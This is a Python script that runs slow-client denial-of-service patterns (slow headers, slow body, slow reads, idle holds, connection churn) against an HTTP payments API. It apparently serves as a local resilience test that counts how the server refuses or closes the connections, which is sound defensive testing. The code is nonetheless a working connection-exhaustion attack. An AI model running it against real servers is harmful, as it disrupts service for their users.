#!/usr/bin/env python3
"""Clients that mean no good: one kind of them against one address, from one thread.

  attack.py KIND ADDRESS:PORT CONNECTIONS SECONDS [KEY]

KIND is `headers` (a byte of a header every second), `body` (half of a body, then a byte every second), `read` (pages are asked for and
never read), `idle` (connections that are held, from 127.0.0.2) or `churn` (connects and closes as fast as it can, from 127.0.0.2).

Prints `ready` once all are connected and have sent what they send at first, and at the end one JSON object: opened, refused (closed by the server before anything was
sent), ended (closed by the server while the attack went on), answered (by status).
"""

import json
import resource
import select
import socket
import sys
import time

KIND, ADDRESS, COUNT, SECONDS = sys.argv[1], sys.argv[2].rsplit(":", 1), int(sys.argv[3]), float(sys.argv[4])
KEY = sys.argv[5] if len(sys.argv) > 5 else "none"
TARGET = (ADDRESS[0], int(ADDRESS[1]))
BODY_BYTES = 60_000

head = f"Host: a\r\nAuthorization: Bearer {KEY}\r\n"
FIRST = {
    "headers": f"GET /v1/accounts/a HTTP/1.1\r\n{head}X-Slow: ",
    "body": f"POST /v1/payments HTTP/1.1\r\n{head}Content-Type: application/json\r\nIdempotency-Key: attack-0001\r\n"
    f"Content-Length: {BODY_BYTES}\r\n\r\n" + " " * (BODY_BYTES // 2),
    "read": f"GET /v1/accounts/hard:1/transactions?limit=200 HTTP/1.1\r\n{head}\r\n" * 16,
    "idle": "",
    "churn": "",
}[KIND].encode()

resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
counts = {"opened": 0, "refused": 0, "ended": 0, "answered": {}}


def connect():
    connection = socket.socket()
    if KIND == "read":
        # Before the connect, so that the window is small from the start.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    if KIND in ("idle", "churn"):
        connection.bind(("127.0.0.2", 0))
    connection.settimeout(10)
    connection.connect(TARGET)
    counts["opened"] += 1
    if FIRST:
        connection.sendall(FIRST)
    connection.setblocking(False)
    return connection


def churn():
    end = time.monotonic() + SECONDS
    print("ready", flush=True)
    while time.monotonic() < end:
        try:
            connect().close()
        except OSError:
            counts["refused"] += 1


def hold():
    poll = select.epoll()
    alive = {}
    for _ in range(COUNT):
        try:
            connection = connect()
        except OSError:
            counts["refused"] += 1
            continue
        alive[connection.fileno()] = connection
        # A slow reader does not read; its end is seen by the server's own numbers.
        poll.register(connection.fileno(), select.EPOLLHUP if KIND == "read" else select.EPOLLIN)
    print("ready", flush=True)
    end = time.monotonic() + SECONDS
    next_byte = time.monotonic() + 1
    while time.monotonic() < end:
        for descriptor, event in poll.poll(min(0.2, max(0, end - time.monotonic()))):
            connection = alive[descriptor]
            data = b""
            try:
                data = connection.recv(4096) if event & select.EPOLLIN else b""
            except OSError:
                pass
            if data.startswith(b"HTTP/1.1 "):
                status = data[9:12].decode()
                counts["answered"][status] = counts["answered"].get(status, 0) + 1
                continue
            if not data:
                counts["refused" if KIND == "idle" else "ended"] += 1
                poll.unregister(descriptor)
                alive.pop(descriptor).close()
        if KIND in ("headers", "body") and time.monotonic() >= next_byte:
            next_byte += 1
            for connection in alive.values():
                try:
                    connection.send(b"x" if KIND == "headers" else b" ")
                except OSError:
                    pass


churn() if KIND == "churn" else hold()
print(json.dumps(counts))
